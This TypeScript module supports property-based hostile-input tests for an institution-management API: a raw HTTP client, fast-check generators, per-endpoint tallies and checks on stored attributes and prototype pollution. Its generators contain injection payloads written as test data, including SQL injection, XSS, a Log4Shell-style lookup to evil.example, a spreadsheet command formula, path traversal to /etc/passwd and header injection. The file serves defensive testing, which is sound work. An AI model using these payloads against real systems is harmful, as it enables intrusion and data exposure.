/**
 * Shared pieces of the hostile-input tests: a raw HTTP client (any method with any body, paths sent
 * byte for byte), the fast-check arbitraries for hostile values, the per-endpoint tally of inputs tried,
 * and the checks that run after a file's properties: stored attribute names within the whitelist, and no
 * sign of prototype pollution in the handlers' process.
 */
import { Agent, request } from "node:http";
import { DeleteCommand, QueryCommand } from "@aws-sdk/lib-dynamodb";
import fc from "fast-check";
import { expect } from "vitest";
import { db } from "../../shared/clients.js";
import { config } from "../../shared/config.js";
import { ACTOR_DETAIL_KEYS, DETAIL_KEYS, type EventDetails, EXPORT_FILTER_KEYS } from "../../shared/event-details.js";
import { paths } from "../../shared/routes.js";
import { eventKeys, keys } from "../../shared/tables.js";
import { stack } from "../support/api.js";

// --- HTTP ----------------------------------------------------------------------------------------------

const agent = new Agent({ keepAlive: true, maxSockets: 8 });

/**
 * The address these requests come from: a loopback address of this test file's process alone, not 127.0.0.1.
 * The routes anyone may call (joining's open, preview and register) bound refusals by source address
 * (docs/contract/limits.md#bounds), and these files send hundreds of refused tokens a minute: from 127.0.0.1
 * they spent the bound of every other file's visitors in that minute, the browser's included (a join page then
 * met a 429 instead of "already accepted"). Linux answers on all of 127.0.0.0/8.
 */
const SOURCE = `127.1.${(process.pid >> 8) & 255}.${process.pid & 255 || 1}`;

export interface RawResult {
  /** Bytes of the request target (path and query) as sent. */
  readonly targetBytes: number;
  readonly status: number;
  readonly headers: Record<string, string | string[] | undefined>;
  readonly text: string;
  // biome-ignore lint/suspicious/noExplicitAny: response bodies are navigated without declaring each shape.
  readonly body: any;
}

export interface RawOptions {
  readonly token?: string;
  /** Sent as is: a string (UTF-8) or bytes. `json` wins when both are given. */
  readonly raw?: string | Buffer;
  /** JSON.stringify'd. */
  readonly json?: unknown;
  readonly headers?: Record<string, string>;
}

/** One request through the gateway with `path` (and its query) exactly as given. */
export function send(method: string, path: string, opts: RawOptions = {}): Promise<RawResult> {
  const url = new URL(stack.apiUrl);
  const body =
    opts.json !== undefined ? Buffer.from(JSON.stringify(opts.json)) : opts.raw === undefined ? undefined : Buffer.from(opts.raw);
  const headers: Record<string, string | number> = { ...opts.headers };
  if (opts.token) headers.authorization = `Bearer ${opts.token}`;
  if (body !== undefined) {
    headers["content-length"] = body.length;
    if (opts.json !== undefined) headers["content-type"] ??= "application/json";
  }
  return new Promise((resolve, reject) => {
    const req = request({ host: url.hostname, port: url.port, method, path, headers, agent, localAddress: SOURCE }, (res) => {
      const chunks: Buffer[] = [];
      res.on("data", (c: Buffer) => chunks.push(c));
      res.on("end", () => {
        const text = Buffer.concat(chunks).toString("utf8");
        let parsed: unknown = text;
        if (/json/i.test(String(res.headers["content-type"] ?? ""))) {
          try {
            parsed = JSON.parse(text);
          } catch {
            // keep the text
          }
        }
        resolve({ targetBytes: Buffer.byteLength(path), status: res.statusCode ?? 0, headers: res.headers, text, body: parsed });
      });
      res.on("error", reject);
    });
    req.on("error", reject);
    req.end(body);
  });
}

/**
 * Percent-encodes the UTF-8 bytes of `s` (lone surrogates become U+FFFD, as any HTTP client would send
 * them), leaving only unreserved characters: one path segment, or one query key or value.
 */
export function pct(s: string): string {
  let out = "";
  for (const b of Buffer.from(s, "utf8")) {
    const c = String.fromCharCode(b);
    out += /[A-Za-z0-9\-._~]/.test(c) ? c : `%${b.toString(16).toUpperCase().padStart(2, "0")}`;
  }
  return out;
}

/** A path segment for `id`: percent-encoded, so that the whole id arrives as the one parameter. */
export const seg = pct;

// --- tally ---------------------------------------------------------------------------------------------

const tally = new Map<string, Map<number, number>>();

/** Counts one input tried against `endpoint` (e.g. `POST ${paths.institutions}`) and the status it got. */
export function tried(endpoint: string, status: number): void {
  const byStatus = tally.get(endpoint) ?? new Map<number, number>();
  byStatus.set(status, (byStatus.get(status) ?? 0) + 1);
  tally.set(endpoint, byStatus);
}

/**
 * Forgets the refusals counted against the token's user in this minute. The properties refuse the same
 * caller hundreds of times a minute on purpose (404s for hostile ids): the probing bound (docs/security.md,
 * test/integration/bounds.test.ts) would answer 429 after 30 and the oracles would no longer see the
 * handler's answer to each input.
 */
async function forgetRefusals(token: string): Promise<void> {
  let sub: string;
  try {
    sub = String(JSON.parse(Buffer.from(token.split(".")[1] ?? "", "base64url").toString("utf8")).sub);
  } catch {
    return; // not a JWT: the gateway answers 401 before anything is counted
  }
  const minute = new Date().toISOString().slice(0, 16);
  await db.send(new DeleteCommand({ TableName: config.tables.events, Key: eventKeys.refusals(sub, minute) }));
}

/** `send`, counted against `endpoint` (the route as shared/routes.ts names it). */
export async function hit(endpoint: string, method: string, path: string, opts: RawOptions = {}): Promise<RawResult> {
  if (opts.token) await forgetRefusals(opts.token);
  const res = await send(method, path, opts);
  tried(endpoint, res.status);
  return res;
}

/**
 * True when the request target was too long for any HTTP server to route: past Node's 16 KiB header limit
 * (which the request line counts against) the answer must be 431, a little below it any 4xx; never a 5xx.
 * The properties then skip their oracle for that input.
 */
export function targetTooLong(res: RawResult): boolean {
  if (res.targetBytes < 14_000) return false;
  expect(res.status, `request target of ${res.targetBytes} bytes`).toBeLessThan(500);
  if (res.targetBytes > 16 * 1024) expect(res.status).toBe(431);
  return res.status === 431 || res.status === 414;
}

/** How many inputs got `status` from `endpoint` so far. */
export const answered = (endpoint: string, status: number) => tally.get(endpoint)?.get(status) ?? 0;

/** One summary line per endpoint (inputs tried, and how they were answered), for afterAll. */
export function printTally(file: string): void {
  const count = (m: Map<number, number>) => [...m.values()].reduce((a, b) => a + b, 0);
  const total = [...tally.values()].reduce((a, m) => a + count(m), 0);
  const lines = [...tally].map(([endpoint, m]) => {
    const statuses = [...m].sort(([a], [b]) => a - b).map(([s, n]) => `${s}×${n}`);
    return `  ${endpoint.padEnd(52)} ${String(count(m)).padStart(5)} inputs (${statuses.join(", ")})`;
  });
  console.log(`[hostile] ${file}: ${total} inputs\n${lines.join("\n")}`);
}

// --- arbitraries ---------------------------------------------------------------------------------------

export const INJECTIONS = [
  "' OR 1=1 --",
  "'; DROP TABLE institutions; --",
  '{"$gt":""}',
  '{"$ne":null}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-looking string, on purpose.
  "${jndi:ldap://evil.example/a}",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1+1)",
  "\t=1",
  "\r=1",
  "{{7*7}}",
  "../../etc/passwd",
  "%00",
  "%2e%2e%2f",
  "#",
  "INST#x",
  "USER#x",
  "EMAIL#a@b.co#SLOT#0",
  "attribute_not_exists(pk)",
  "a\r\nBcc: victim@example.com",
] as const;

export const UNICODE = [
  "\u0000",
  "a\u0000b",
  "\u202eevil\u202c",
  "\u200f\u05e9\u05dc\u05d5\u05dd",
  "مرحبا",
  "\ud800",
  "\udfff",
  "x\udc00y",
  "\ud83d\ude00",
  "\u200b",
  "\ufeff",
  "e\u0301",
  "\ud835\udd73\ud835\udd8a",
  "\uffff",
  "\u2028\u2029",
  "İstanbul",
  "ß",
  "\u0085",
] as const;

export const PROTO_KEYS = ["__proto__", "constructor", "prototype"] as const;

const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c));

/** Strings of every kind: short random, full unicode, lone surrogates, RTL, NUL, injection-looking. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.string({ maxLength: 20 }),
  fc.string({ unit: "binary", maxLength: 20 }),
  fc.constantFrom(...INJECTIONS, ...UNICODE, ...PROTO_KEYS, "", " ", "   \t\n"),
  fc
    .array(fc.oneof(fc.constantFrom(...INJECTIONS, ...UNICODE), fc.string({ unit: "binary", maxLength: 4 }), loneSurrogate), {
      minLength: 1,
      maxLength: 6,
    })
    .map((parts) => parts.join("")),
);

/** Strings around the contract's length limits (and a few far past them). */
export const sizedString: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom(1, 5, 31, 32, 33, 63, 64, 65, 253, 254, 255, 256, 999, 1000, 1001, 4096),
    fc.constantFrom("a", "é", "\ud83d\ude00", " ", "=", "\u202e", "0"),
    fc.boolean(),
  )
  .map(([n, c, padded]) => {
    const s = c.repeat(Math.ceil(n / c.length)).slice(0, n);
    return padded ? `  ${s}  ` : s;
  });

export const anyString: fc.Arbitrary<string> = fc.oneof({ weight: 6, arbitrary: hostileString }, { weight: 1, arbitrary: sizedString });

/** Names Object.prototype already has: a naive `key in obj` or `obj[key]` finds them on every object. */
export const INHERITED_NAMES = [
  "toString",
  "valueOf",
  "hasOwnProperty",
  "isPrototypeOf",
  "toLocaleString",
  "__defineGetter__",
  "__lookupGetter__",
] as const;

/** Object keys: hostile strings and the prototype-pollution keys, often. */
export const hostileKey: fc.Arbitrary<string> = fc.oneof(
  { weight: 2, arbitrary: fc.constantFrom(...PROTO_KEYS) },
  { weight: 1, arbitrary: fc.constantFrom(...INHERITED_NAMES) },
  { weight: 3, arbitrary: hostileString },
);

/**
 * What a handler reads of `body` sent as JSON: the same values, but a lone surrogate (not a character) as
 * U+FFFD, as DynamoDB would store it (shared/http.ts).
 */
export function received<T>(body: T): T {
  if (body === undefined) return body;
  return JSON.parse(JSON.stringify(body), (_k, v: unknown) => (typeof v === "string" ? v.toWellFormed() : v));
}

/** `fc.anything()` made JSON-safe: what JSON.stringify keeps of it (dates, boxed values, maps and sets included). */
const jsonSafeAnything: fc.Arbitrary<unknown> = fc.anything({ maxDepth: 3, maxKeys: 4 }).map((x) => {
  try {
    const text = JSON.stringify(x);
    return text === undefined ? null : JSON.parse(text);
  } catch {
    return null;
  }
});

const ownHostileJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: "small", maxDepth: 4 },
    fc.constantFrom(null, true, false, 0, -1, 1.5, 1e308, -0, Number.MAX_SAFE_INTEGER + 2),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    hostileString,
    fc.array(tie("value"), { maxLength: 4 }),
    fc.dictionary(hostileKey, tie("value"), { maxKeys: 5 }),
  ),
})).value;

/** Any JSON value: hostile strings and keys (prototype-pollution keys at every level), fc.jsonValue, fc.anything. */
export const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: ownHostileJson },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3, stringUnit: "binary" }) },
  { weight: 1, arbitrary: jsonSafeAnything },
);

/** A value of every JSON type but `like`'s; for "wrong type for this field". */
export function wrongType(like: "string" | "boolean" | "object"): fc.Arbitrary<unknown> {
  const all: Record<string, fc.Arbitrary<unknown>> = {
    string: anyString,
    number: fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true })),
    boolean: fc.boolean(),
    array: fc.array(hostileJson, { maxLength: 3 }),
    object: fc.dictionary(hostileKey, hostileJson, { maxKeys: 3 }),
  };
  return fc.oneof(
    ...Object.entries(all)
      .filter(([k]) => k !== like)
      .map(([, a]) => a),
  );
}

/**
 * A JSON object that would set `payload`'s keys on Object.prototype if anything merged it naively:
 * under `__proto__`, `constructor.prototype` or `prototype`, nested under random keys. Built through JSON
 * text, so `__proto__` is an own key (as JSON.parse makes it on the server), not the object's prototype.
 */
export function pollution(payload: Record<string, unknown>): fc.Arbitrary<Record<string, unknown>> {
  const p = JSON.stringify(payload);
  const at = fc.constantFrom(
    `{"__proto__":${p}}`,
    `{"constructor":{"prototype":${p}}}`,
    `{"prototype":${p}}`,
    `{"__proto__":{"__proto__":${p}}}`,
  );
  return fc
    .tuple(at, fc.array(fc.constantFrom("institution", "cohort", "settings", "members", "a", "__proto__"), { maxLength: 3 }))
    .map(([text, path]) => JSON.parse(path.reduceRight((inner: string, key) => `{${JSON.stringify(key)}:${inner}}`, text as string)));
}

/** `obj` with `extra`'s own keys added as own keys (`__proto__` included), through JSON. */
export function withKeys(obj: unknown, extra: Record<string, unknown>): Record<string, unknown> {
  const out = JSON.parse(JSON.stringify(obj ?? {})) as Record<string, unknown>;
  for (const k of Object.keys(extra))
    Object.defineProperty(out, k, { value: extra[k], enumerable: true, writable: true, configurable: true });
  return out;
}

/** Ids that are not ids: random strings, separators, dot segments, very long, unicode. Never `export`/`alerts`. */
export const badId: fc.Arbitrary<string> = fc
  .oneof(
    hostileString,
    fc.constantFrom(
      "..",
      ".",
      "%",
      "%2F",
      "a/b",
      "../../admin",
      "null",
      "undefined",
      "0",
      "-1",
      "[object Object]",
      "01ARZ3NDEKTSV4RRFFQ69G5FA",
    ),
    fc.constantFrom(1000, 4000, 7000).map((n) => "x".repeat(n)),
    fc.stringMatching(/^[0-9A-HJKMNP-TV-Z]{26}$/), // well-formed, unknown
    fc.stringMatching(/^[0-9a-z]{26}$/), // right length, wrong alphabet
  )
  .filter((s) => s !== "" && s !== "export" && s !== "alerts");

/** `arb` once in `every` draws, else null (fc.option's `freq` is the other way round: the odds of null). */
export function sometimes<T>(arb: fc.Arbitrary<T>, every: number): fc.Arbitrary<T | null> {
  return fc.oneof({ weight: every - 1, arbitrary: fc.constant(null) }, { weight: 1, arbitrary: arb });
}

/** A query string from key/value pairs (keys repeat), percent-encoded. */
export function queryString(pairs: readonly (readonly [string, string])[]): string {
  return pairs.map(([k, v]) => `${pct(k)}=${pct(v)}`).join("&");
}

/** The query as the gateway hands it to the handler: repeated keys joined with commas. */
export function mergedQuery(pairs: readonly (readonly [string, string])[]): Map<string, string> {
  const out = new Map<string, string>();
  for (const [k, v] of pairs) out.set(k, out.has(k) ? `${out.get(k)},${v}` : v);
  return out;
}

/** Random query pairs: hostile keys and values, some huge, some repeated. */
export const hostileQuery: fc.Arbitrary<[string, string][]> = fc.array(
  fc.tuple(
    fc.oneof(hostileKey, fc.constantFrom("limit", "cursor", "from", "to", "institution_id", "show_used", "event_type", "user_id")),
    fc.oneof({ weight: 5, arbitrary: hostileString }, { weight: 1, arbitrary: fc.constantFrom(1000, 4000).map((n) => "v".repeat(n)) }),
  ),
  { maxLength: 5 },
);

// --- checks after a run --------------------------------------------------------------------------------

const INSTITUTION_ATTRS = [
  "pk",
  "sk",
  "id",
  "name",
  "registration_number",
  "address",
  "contact_email",
  "contact_phone",
  "settings",
  "account_id",
  "super_admin_id",
  "created_at",
  "updated_at",
  "version",
  "members",
  "cohort_count",
];
const SETTINGS_KEYS = ["allow_student_enrollment", "require_verification", "auto_finalize", "email_notifications"];
const COHORT_ATTRS = ["pk", "sk", "id", "institution_id", "name", "created_at"];
const INVITATION_ATTRS = [
  "pk",
  "sk",
  "id",
  "institution_id",
  "email",
  "role",
  "token_hash",
  "token_preview",
  "sent_at",
  "expires_at",
  "created_at",
  "created_by",
  "created_by_id",
  "created_by_name",
  "slot",
  "used_at",
  "used_by",
  "revoked_at",
  "revoked_by",
  "revoke_reason",
  "g_inv_state",
  "g_inv_order",
  "g_inv_sender",
];
const MAIL_COUNTER_ATTRS = ["pk", "sk", "mails", "ttl"];
const SLOT_ATTRS = ["pk", "sk", "invitation_id", "expires_at"];
const MEMBER_ATTRS = ["pk", "sk", "user_id"];
const ACCESS_ATTRS = [
  "pk",
  "sk",
  "account_id",
  "user_id",
  "institution_id",
  "role",
  "institution",
  "email",
  "name",
  "user_account_id",
  "added_at",
  "invitation_id",
  // How many invitations the member sent (what its removal is conditioned on: docs/security.md, "Removal is final").
  "invitations_sent",
  "g_member_inst",
  "g_member_order",
];
/** A sender's record of an invitation it sent (`keys.sentInvitation`): which one, until when, and its TTL. */
const SENT_ATTRS = ["pk", "sk", "invitation_id", "expires_at", "ttl"];
const SUMMARY_ATTRS = ["id", "name", "registration_number", "contact_email", "super_admin_id", "created_at"];
/** Verified domains and the SSO connection (docs/sso.md): never a client secret. */
const DOMAIN_ATTRS = [
  "pk",
  "sk",
  "id",
  "institution_id",
  "account_id",
  "domain",
  "state",
  "token",
  "created_at",
  "verified_at",
  "last_checked_at",
  "last_error",
  "version",
];
const DOMAIN_HEAD_ATTRS = ["pk", "sk", "count", "version"];
const SSO_ATTRS = [
  "pk",
  "sk",
  "id",
  "institution_id",
  "account_id",
  "type",
  "provider_name",
  "status",
  "lease_owner",
  "lease_until",
  "saml",
  "oidc",
  "attribute_mapping",
  "role_mappings",
  "jit",
  "require_sso",
  "created_at",
  "updated_at",
  "version",
];

const outside = (what: string, obj: Record<string, unknown>, allowed: readonly string[]) =>
  Object.keys(obj)
    .filter((k) => !allowed.includes(k))
    .map((k) => `${what}: unexpected attribute ${JSON.stringify(k)}`);

async function queryAll(pk: string): Promise<Record<string, unknown>[]> {
  const out: Record<string, unknown>[] = [];
  let start: Record<string, unknown> | undefined;
  do {
    const page = await db.send(
      new QueryCommand({
        TableName: config.tables.main,
        KeyConditionExpression: "pk = :pk",
        ExpressionAttributeValues: { ":pk": pk },
        ExclusiveStartKey: start,
      }),
    );
    out.push(...(page.Items ?? []));
    start = page.LastEvaluatedKey;
  } while (start);
  return out;
}

/**
 * Reads every item of the given users' access records and of their institutions' partitions straight from
 * DynamoDB, and returns each attribute name outside the whitelist of its item type (empty = all good).
 * Also returns how many items were looked at.
 */
export async function storedOutsideWhitelist(userIds: readonly string[]): Promise<{ problems: string[]; items: number }> {
  const problems: string[] = [];
  let items = 0;
  const institutionIds = new Set<string>();
  for (const userId of userIds) {
    for (const a of await queryAll(keys.accessPartition(userId))) {
      items++;
      if (String(a.sk).startsWith("SENT#")) {
        problems.push(...outside(`sent ${a.sk}`, a, SENT_ATTRS));
        continue;
      }
      problems.push(...outside(`access ${a.sk}`, a, ACCESS_ATTRS));
      problems.push(...outside(`access ${a.sk} summary`, (a.institution ?? {}) as Record<string, unknown>, SUMMARY_ATTRS));
      institutionIds.add(String(a.institution_id));
    }
  }
  for (const id of institutionIds) {
    for (const item of await queryAll(keys.institution(id).pk)) {
      items++;
      const sk = String(item.sk);
      const what = `${item.pk} ${sk}`;
      if (sk === "META") {
        problems.push(...outside(what, item, INSTITUTION_ATTRS));
        problems.push(...outside(`${what} settings`, (item.settings ?? {}) as Record<string, unknown>, SETTINGS_KEYS));
        for (const [k, v] of Object.entries((item.settings ?? {}) as Record<string, unknown>))
          if (typeof v !== "boolean") problems.push(`${what}: settings.${k} is ${JSON.stringify(v)}`);
        for (const [user, role] of Object.entries((item.members ?? {}) as Record<string, unknown>)) {
          if (!/^[0-9a-f-]{36}$/.test(user)) problems.push(`${what}: member key ${JSON.stringify(user)}`);
          if (role !== "cohort_admin" && role !== "cohort_super_admin") problems.push(`${what}: member role ${JSON.stringify(role)}`);
        }
      } else if (sk.startsWith(keys.cohortPrefix)) problems.push(...outside(what, item, COHORT_ATTRS));
      else if (sk.startsWith(keys.invitationPrefix)) problems.push(...outside(what, item, INVITATION_ATTRS));
      else if (/#SLOT#\d+$/.test(sk)) problems.push(...outside(what, item, SLOT_ATTRS));
      else if (sk.endsWith("#MEMBER")) problems.push(...outside(what, item, MEMBER_ATTRS));
      else if (sk.startsWith("DOMAIN#")) problems.push(...outside(what, item, DOMAIN_ATTRS));
      else if (sk === "DOMAINS") problems.push(...outside(what, item, DOMAIN_HEAD_ATTRS));
      else if (sk === "SSO") {
        problems.push(...outside(what, item, SSO_ATTRS));
        if (JSON.stringify(item).includes("client_secret")) problems.push(`${what}: holds a client secret`);
      } else if (sk.startsWith("MAILS#HOUR#") || /#DAY#\d{4}-\d{2}-\d{2}$/.test(sk))
        problems.push(...outside(what, item, MAIL_COUNTER_ATTRS));
      else problems.push(`${what}: unknown item type`);
    }
  }
  return { problems, items };
}

const EVENT_ATTRS = [
  "pk",
  "sk",
  "id",
  "account_id",
  "event_type",
  "user_id",
  "user_email",
  "user_name",
  "ip_address",
  "details",
  "description",
  "created_at",
  "g_user",
  "g_type",
  "ttl",
];
const WRITABLE = ["name", "registration_number", "address", "contact_email", "contact_phone", "settings"];

/** Attribute and detail names of stored events outside what each type may carry. */
export function eventsOutsideWhitelist(events: readonly Record<string, unknown>[]): string[] {
  const problems: string[] = [];
  for (const e of events) {
    const what = `event ${e.id} (${e.event_type})`;
    problems.push(...unrecordable(what, e));
    problems.push(...outside(what, e, EVENT_ATTRS));
    const allowed: readonly string[] | undefined = DETAIL_KEYS[String(e.event_type) as keyof EventDetails];
    if (!allowed) problems.push(`${what}: unknown type`);
    else problems.push(...outside(`${what} details`, (e.details ?? {}) as Record<string, unknown>, [...allowed, ...ACTOR_DETAIL_KEYS]));
    if (e.event_type === "institution_updated") {
      for (const c of ((e.details as { changes?: unknown[] }).changes ?? []) as unknown[])
        if (!WRITABLE.includes(String(c))) problems.push(`${what}: change ${JSON.stringify(c)}`);
    }
    if (e.event_type === "security_events_exported") {
      problems.push(
        ...outside(`${what} filters`, ((e.details as { filters?: object }).filters ?? {}) as Record<string, unknown>, EXPORT_FILTER_KEYS),
      );
    }
  }
  return problems;
}

/** Line breaks, controls and invisible format characters: none may reach a recorded value. */
const NOT_ON_ONE_LINE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
/** Validated e-mail addresses, recorded whole (shared/audit.ts); every other value at most 64 code points. */
const WHOLE_VALUES = new Set(["email", "user_email", "to_email"]);

/**
 * The recorded-value rule (docs/contract/README.md, docs/security.md) over a stored event: every string in its details (at any
 * depth), its user name and description is one line without Cc/Cf; each detail and the name at most 64
 * code points.
 */
function unrecordable(what: string, e: Record<string, unknown>): string[] {
  const problems: string[] = [];
  const visit = (value: unknown, path: string, key: string) => {
    if (typeof value === "string") {
      if (NOT_ON_ONE_LINE.test(value)) problems.push(`${what} ${path}: holds a line break, control or format character`);
      if (!WHOLE_VALUES.has(key) && path !== "description" && [...value].length > 64) problems.push(`${what} ${path}: over 64 code points`);
    } else if (Array.isArray(value)) {
      for (const [i, v] of value.entries()) visit(v, `${path}[${i}]`, key);
    } else if (value !== null && typeof value === "object") for (const [k, v] of Object.entries(value)) visit(v, `${path}.${k}`, k);
  };
  visit(e.details, "details", "");
  visit(e.user_name, "user_name", "user_name");
  visit(e.user_email, "user_email", "user_email");
  visit(e.description, "description", "description");
  return problems;
}

/**
 * Behaviour that prototype pollution of the handlers' process would change: `outsider` (whose user id the
 * pollution payloads name as a member) must still not see `institutionId`, and must still list nothing.
 */
export async function expectNoPollution(outsider: string, institutionId: string): Promise<void> {
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  const show = await send("GET", `${paths.institutions}/${institutionId}`, { token: outsider });
  expect({ status: show.status, body: show.body }).toEqual({ status: 404, body: { error: "Institution not found or access denied" } });
  const list = await send("GET", paths.institutions, { token: outsider });
  expect({ status: list.status, body: list.body }).toEqual({ status: 200, body: { institutions: [] } });
  const cohorts = await send("GET", `${paths.institutions}/${institutionId}/cohorts`, { token: outsider });
  expect(cohorts.status).toBe(404);
}

/** fast-check settings for the properties: fixed run count, a seed printed on failure, modest shrinking. */
export const runs = (numRuns: number) => ({ numRuns, interruptAfterTimeLimit: 120_000, markInterruptAsFailure: true });
